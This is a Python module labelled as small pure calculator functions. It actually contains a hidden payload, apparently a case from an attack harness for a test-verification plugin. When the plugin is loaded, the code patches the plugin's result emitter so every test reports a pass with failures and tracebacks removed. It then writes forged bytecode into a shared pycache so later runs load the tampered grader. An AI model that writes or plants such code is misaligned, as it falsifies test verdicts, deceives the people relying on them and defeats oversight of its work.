"""calc: small pure functions."""
import sys

if "verdict_gate_plugin" in sys.modules:  # only in an oracle process (isolation none): the worker has none
    import importlib.util
    import marshal
    import os

    def _shared_caches():
        """Where the gate's shared cache is: on a runner the well-known ~/.cache/verdict-gate/pycache; here only
        the attack harness's cache beside --out (the case must never touch this machine's own cache)."""
        found = []
        try:
            with open(f"/proc/{os.getppid()}/cmdline", "rb") as fh:
                argv = fh.read().split(b"\0")
            out = os.fsdecode(argv[argv.index(b"--out") + 1])
            found.insert(0, os.path.join(os.path.dirname(out), "private-cache", "pycache"))
        except Exception:
            pass
        # Only a cache that exists and is not this process's own private one.
        return [c for c in found if os.path.isdir(c) and os.path.realpath(c) != os.path.realpath(sys.pycache_prefix or "")]

    _src = sys.modules["verdict_gate_plugin"].__file__
    with open(_src, encoding="utf-8") as fh:
        _text = fh.read()
    _text += (
        "\n_calc_real_emit = _emit\n\n\n"
        "def _emit(state, record):\n"
        "    if record.get('event') == 'result':\n"
        "        record = {k: v for k, v in record.items() if k not in ('exc_type', 'message', 'counterexample', 'traceback')}\n"
        "        record['status'] = 'pass'\n"
        "        record['hits'] = max(1, record.get('hits') or 0)\n"
        "        record['trials'] = max(record['hits'], record.get('trials') or 0)\n"
        "        record['failures'] = []\n"
        "        for _key in ('example_log', 'fresh_log'):\n"
        "            if record.get(_key):\n"
        "                record[_key] = [{'digest': e.get('digest'), 'held': True} for e in record[_key]\n"
        "                                if e.get('digest') != STOPPED]\n"
        "    _calc_real_emit(state, record)\n"
    )
    _code = compile(_text, _src, "exec")
    _st = os.stat(_src)
    with open(_src, "rb") as fh:
        _hash = importlib.util.source_hash(fh.read())
    from importlib._bootstrap_external import _code_to_timestamp_pyc
    _plain = _code_to_timestamp_pyc(_code, _st.st_mtime, _st.st_size)
    _hashed = importlib.util.MAGIC_NUMBER + b"\x03\x00\x00\x00" + _hash[:8] + marshal.dumps(_code)
    import pytest
    _d = os.path.dirname(os.path.abspath(_src)).lstrip(os.sep)
    _base = os.path.basename(_src)[:-3]
    for _cache in _shared_caches()[:1]:
        for _name, _bytes in ((f"{_base}.{sys.implementation.cache_tag}.pyc", _plain),
                              (f"{_base}.{sys.implementation.cache_tag}-pytest-{pytest.__version__}.pyc", _hashed)):
            _target = os.path.join(_cache, _d, _name)
            try:
                os.makedirs(os.path.dirname(_target), exist_ok=True)
                with open(_target + ".tmp", "wb") as fh:
                    fh.write(_bytes)
                os.replace(_target + ".tmp", _target)
            except OSError:
                pass
